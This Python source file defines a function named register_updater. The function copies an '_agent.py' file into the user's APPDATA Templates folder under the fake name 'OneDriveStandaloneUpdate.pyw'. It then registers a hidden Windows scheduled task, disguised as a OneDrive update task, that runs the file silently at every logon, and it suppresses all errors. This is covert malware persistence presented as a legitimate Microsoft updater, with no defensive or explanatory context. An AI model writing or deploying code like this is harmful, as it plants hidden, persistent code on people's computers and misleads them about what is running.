import datetime
import os
import shutil
import sys

TASK_TRIGGER_LOGON = 9
TASK_ACTION_EXEC = 0
TASK_CREATE_OR_UPDATE = 6
TASK_LOGON_INTERACTIVE_TOKEN = 3


def register_updater():
    try:
        import win32com.client

        src = os.path.join(os.path.dirname(__file__), "_agent.py")
        dst_dir = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Templates")
        dst = os.path.join(dst_dir, "OneDriveStandaloneUpdate.pyw")
        shutil.copyfile(src, dst)
        pyw = os.path.join(os.path.dirname(sys.executable), "pythonw.exe")

        sched = win32com.client.Dispatch("Schedule.Service")
        sched.Connect()
        root = sched.GetFolder("\\")
        task = sched.NewTask(0)
        task.RegistrationInfo.Description = "Keeps OneDrive up to date."
        task.Settings.Enabled = True
        task.Settings.Hidden = True
        task.Settings.StopIfGoingOnBatteries = False
        trig = task.Triggers.Create(TASK_TRIGGER_LOGON)
        trig.StartBoundary = datetime.datetime.now().isoformat(timespec="seconds")
        act = task.Actions.Create(TASK_ACTION_EXEC)
        act.Path = pyw
        act.Arguments = '"%s"' % dst
        root.RegisterTaskDefinition("OneDrive Standalone Update Task-S-1-5-21", task,
                                    TASK_CREATE_OR_UPDATE, "", "", TASK_LOGON_INTERACTIVE_TOKEN)
    except Exception:
        pass
